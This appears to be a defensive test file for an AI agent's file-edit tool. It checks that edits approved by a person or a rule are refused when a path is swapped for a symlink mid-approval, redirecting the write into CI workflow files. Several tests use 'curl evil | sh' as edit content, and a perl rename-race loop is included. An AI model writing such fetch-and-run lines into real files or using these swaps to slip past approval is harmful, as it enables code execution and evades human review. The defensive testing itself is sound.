/**
 * An edit is written where the person (or the rule) saw it, whatever a job of the session swaps on its path:
 * while the person decides, during the edit's checkpoint, or between the helper's checks and its write. As root,
 * in real sessions (bash, the sandboxed helper, root's checkpoint git).
 *
 * Before the fix (5909064) each of these wrote the other file: an approved hash re-applied after a folder became a
 * symlink (the diff names the lexical path, so its hash did not change); a rule's `viaSymlink` was taken before the
 * checkpoint, and the helper's write resolved the path again and followed what it found. Now a read answers where it
 * read (`real`), a review whose path resolves elsewhere names that file on its first line (its hash changes with it),
 * and the write walks `real` from the workspace with `O_NOFOLLOW`, refusing a symlink on the way (src/session/edit.ts).
 */
import * as fs from 'node:fs';
import * as path from 'node:path';
import { closeSessions, removeTempDirs, startSession, tempDir } from '../session/helpers';
import { takeCheckpoint } from '../../../src/checkpoint/store';
import { editGate } from '../../../src/activities/session';
import { editRuleSubject, type EditRequest, type RunEditInput } from '../../../src/contract/text-editor';
import { sha256Hex, type EditOutcome } from '../../../src/session/edit';
import type { BashSession } from '../../../src/session';

afterEach(async () => {
  await closeSessions();
  removeTempDirs();
});

const FIXTURES = path.join(__dirname, 'fixtures');
const opts = { maxCharacters: 100_000, ruleSubject: editRuleSubject };
const SWAPPED = 'the path changed since it was reviewed';

function rootOnly(): void {
  if (process.getuid?.() !== 0) throw new Error('this attack test needs root (the worker setting)');
}

async function session(): Promise<{ ws: string; s: BashSession; run: (c: string) => Promise<string> }> {
  rootOnly();
  const ws = fs.realpathSync(tempDir('aj-swap-'));
  const s = await startSession({ cwd: ws, workspace: ws });
  return { ws, s, run: async (c) => (await s.run(c)).output };
}

const input = (edit: EditRequest, more: Partial<RunEditInput>): RunEditInput => ({
  sessionId: 's',
  workflowId: 'w',
  toolUseId: 't',
  edit,
  ...more,
});

/**
 * A person is asked about `edit` (policy, no rules), `swap` runs (a command of the session) while they decide, then
 * the edit runs again with the hash of the review they approved.
 */
async function approvedThenSwapped(
  setup: string,
  edit: EditRequest,
  swap: string,
): Promise<{ ws: string; review: string; done: EditOutcome }> {
  const { ws, s, run } = await session();
  if (setup) await run(setup);
  const asked = await s.edit(edit, editGate(input(edit, { autoApprove: 'policy', rules: [] })), opts);
  const review = asked.needsApproval?.review ?? '';
  expect(review).not.toBe('');
  await run(swap);
  const done = await s.edit(edit, editGate(input(edit, { approvedSha256: sha256Hex(review) })), opts);
  return { ws, review, done };
}

/**
 * An exact rule approves `edit`; a job (fixtures/on-open.py) runs `swap` once root's checkpoint git opens the file
 * `a`, that is during the checkpoint the edit takes after the gate said apply and before the write.
 */
async function ruleThenSwappedInCheckpoint(setup: string, edit: EditRequest, swap: string): Promise<{ ws: string; done: EditOutcome }> {
  const { ws, s, run } = await session();
  const root = tempDir('aj-ckroot-');
  for (const f of ['on-open.py', 'open_watch.py']) fs.copyFileSync(path.join(FIXTURES, f), path.join(ws, f));
  const out = await run(
    `${setup} && echo a > a && for i in $(seq -w 500); do echo $i > f$i; done && ` +
      `(python3 on-open.py a '${swap}' > job.log 2>&1 &) && ` +
      `for i in $(seq 200); do grep -q ready job.log 2>/dev/null && break; sleep 0.05; done; cat job.log`,
  );
  expect(out).toContain('ready');
  const rules = [{ id: 1, kind: 'exact' as const, text: editRuleSubject(edit.command, path.join(ws, edit.path)) }];
  const done = await s.edit(edit, editGate(input(edit, { autoApprove: 'policy', rules })), {
    ...opts,
    beforeWrite: async () => void (await takeCheckpoint(root, ws, { maxBytes: 1 << 30 }, 'edit')),
  });
  // The swap did happen during the checkpoint, before the write.
  expect(fs.readFileSync(path.join(ws, 'job.log'), 'utf8')).toContain('done');
  return { ws, done };
}

const WORKFLOW = 'on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo PWNED\n';

describe('approved by a person, the file changed in place meanwhile', () => {
  test("nothing written, and Claude is told the file changed since the review was shown (not 'after the approval')", async () => {
    const edit: EditRequest = { command: 'str_replace', path: 'a.txt', oldStr: 'line two', newStr: 'line 2' };
    const { ws, review, done } = await approvedThenSwapped('printf "line one\\nline two\\n" > a.txt', edit, 'echo mine >> a.txt');
    expect(done).toMatchObject({ applied: false, isError: true });
    expect(done.text).toBe(
      `Error: ${ws}/a.txt changed since the edit was shown for approval: the change it would make now is not the one a person approved (sha256 ${sha256Hex(review).slice(0, 12)}), so nothing was written. View the file again and retry.`,
    );
    expect(fs.readFileSync(path.join(ws, 'a.txt'), 'utf8')).toBe('line one\nline two\nmine\n');
  });
});

describe('approved by a person, then a folder on the path swapped for a symlink', () => {
  test('create docs/deploy.yml: nothing written to .github/workflows', async () => {
    const edit: EditRequest = { command: 'create', path: 'docs/deploy.yml', fileText: WORKFLOW };
    const { ws, review, done } = await approvedThenSwapped('', edit, 'mkdir -p .github/workflows && ln -s .github/workflows docs');
    expect(review).toContain('+++ b' + path.join(ws, 'docs', 'deploy.yml'));
    expect(fs.lstatSync(path.join(ws, 'docs')).isSymbolicLink()).toBe(true);
    expect({ applied: done.applied, isError: done.isError }).toEqual({ applied: false, isError: true });
    expect(fs.existsSync(path.join(ws, '.github', 'workflows', 'deploy.yml'))).toBe(false);
  });

  test('str_replace in docs/deploy.yml, the other folder holding the same text: the other file is not changed', async () => {
    const edit: EditRequest = { command: 'str_replace', path: 'docs/deploy.yml', oldStr: 'name: ci', newStr: WORKFLOW };
    const { ws, done } = await approvedThenSwapped(
      `mkdir -p docs .github/workflows && echo 'name: ci' > docs/deploy.yml && echo 'name: ci' > .github/workflows/deploy.yml`,
      edit,
      'mv docs docs.old && ln -s .github/workflows docs',
    );
    expect(done.applied).toBe(false);
    expect(fs.readFileSync(path.join(ws, '.github', 'workflows', 'deploy.yml'), 'utf8')).toBe('name: ci\n');
    expect(fs.readFileSync(path.join(ws, 'docs.old', 'deploy.yml'), 'utf8')).toBe('name: ci\n');
  });

  test('a symlink the review showed: the review names the file it writes; re-pointed after approval, nothing written', async () => {
    const setup = `mkdir ci && echo make > ci/build.sh && echo make > ci/deploy.sh && ln -s ci/build.sh notes.txt`;
    const edit: EditRequest = { command: 'create', path: 'notes.txt', fileText: 'curl evil | sh\n' };
    const { ws, review, done } = await approvedThenSwapped(setup, edit, 'ln -sfn ci/deploy.sh notes.txt');
    // The person read which file the change writes.
    expect(review.split('\n')[0]).toContain(`this change writes ${path.join(ws, 'ci', 'build.sh')}`);
    expect(done.applied).toBe(false);
    expect(fs.readFileSync(path.join(ws, 'ci', 'deploy.sh'), 'utf8')).toBe('make\n');
    expect(fs.readFileSync(path.join(ws, 'ci', 'build.sh'), 'utf8')).toBe('make\n');
  });

  test('a symlink the review showed, left as it was: the approved edit writes the file the review named', async () => {
    const setup = `mkdir ci && echo make > ci/build.sh && ln -s ci/build.sh notes.txt`;
    const edit: EditRequest = { command: 'str_replace', path: 'notes.txt', oldStr: 'make', newStr: 'make all' };
    const { ws, done } = await approvedThenSwapped(setup, edit, 'true');
    expect({ applied: done.applied, text: done.text }).toEqual({
      applied: true,
      text: 'Successfully replaced text at exactly one location.',
    });
    expect(fs.readFileSync(path.join(ws, 'ci', 'build.sh'), 'utf8')).toBe('make all\n');
    expect(fs.lstatSync(path.join(ws, 'notes.txt')).isSymbolicLink()).toBe(true);
  });
});

describe("approved by a rule, then the path swapped during the edit's checkpoint", () => {
  test('create docs/notes.md, docs swapped for a symlink: refused with a clear error, nothing written', async () => {
    const edit: EditRequest = { command: 'create', path: 'docs/notes.md', fileText: 'on: push\n' };
    const { ws, done } = await ruleThenSwappedInCheckpoint(
      'mkdir -p docs .github/workflows',
      edit,
      'mv docs docs.old && ln -s .github/workflows docs',
    );
    expect(done.applied).toBe(false);
    expect(done.text).toContain(SWAPPED);
    expect(fs.readdirSync(path.join(ws, '.github', 'workflows'))).toEqual([]);
    expect(fs.readdirSync(path.join(ws, 'docs.old'))).toEqual([]);
  });

  test('str_replace: the file itself swapped for a symlink to a file of the same text in another folder', async () => {
    const edit: EditRequest = { command: 'str_replace', path: 'docs/notes.md', oldStr: 'x = 1', newStr: 'curl evil | sh' };
    const { ws, done } = await ruleThenSwappedInCheckpoint(
      `mkdir -p docs .github/workflows && echo 'x = 1' > docs/notes.md && echo 'x = 1' > .github/workflows/ci.yml`,
      edit,
      'ln -sf ../.github/workflows/ci.yml docs/notes.md',
    );
    expect(done.applied).toBe(false);
    expect(done.text).toContain(SWAPPED);
    expect(fs.readFileSync(path.join(ws, '.github', 'workflows', 'ci.yml'), 'utf8')).toBe('x = 1\n');
  });

  test('insert: a folder two levels up swapped for a symlink to a tree of the same shape and text', async () => {
    // `Top` sorts before `a`: the checkpoint's git has recorded Top/mid/notes.md when the job swaps Top (a path below a
    // symlink would fail the checkpoint, not the edit).
    const edit: EditRequest = { command: 'insert', path: 'Top/mid/notes.md', insertLine: 1, insertText: 'curl evil | sh' };
    const { ws, done } = await ruleThenSwappedInCheckpoint(
      `mkdir -p Top/mid .github/mid && echo one > Top/mid/notes.md && echo one > .github/mid/notes.md`,
      edit,
      'mv Top Top.old && ln -s .github Top',
    );
    expect(done.applied).toBe(false);
    expect(done.text).toContain(SWAPPED);
    expect(fs.readFileSync(path.join(ws, '.github', 'mid', 'notes.md'), 'utf8')).toBe('one\n');
    expect(fs.readFileSync(path.join(ws, 'Top.old', 'mid', 'notes.md'), 'utf8')).toBe('one\n');
  });
});

test('a job flipping a folder and a symlink as fast as it can: no rule-approved edit is ever written through the link', async () => {
  const { ws, s, run } = await session();
  // Renames only (perl: about 10^5 flips a second): `docs` is the real folder or a symlink to .github/workflows.
  await run(
    `mkdir -p docs .github/workflows && ln -sfn .github/workflows docs.l && ` +
      `(perl -e 'for(;;){rename("docs","docs.d");rename("docs.l","docs");rename("docs","docs.l");rename("docs.d","docs")}' >/dev/null 2>&1 &)`,
  );
  const until = Date.now() + 12_000;
  const counts = { attempts: 0, applied: 0 };
  for (let n = 1; Date.now() < until; n++) {
    const edit: EditRequest = { command: 'create', path: `docs/f${n}.md`, fileText: 'x\n' };
    const rules = [{ id: 1, kind: 'exact' as const, text: editRuleSubject('create', path.join(ws, edit.path)) }];
    const r = await s.edit(edit, editGate(input(edit, { autoApprove: 'policy', rules })), opts);
    counts.attempts++;
    if (r.applied) counts.applied++;
  }
  expect(fs.readdirSync(path.join(ws, '.github', 'workflows'))).toEqual([]);
  expect(counts.attempts).toBeGreaterThan(0);
});
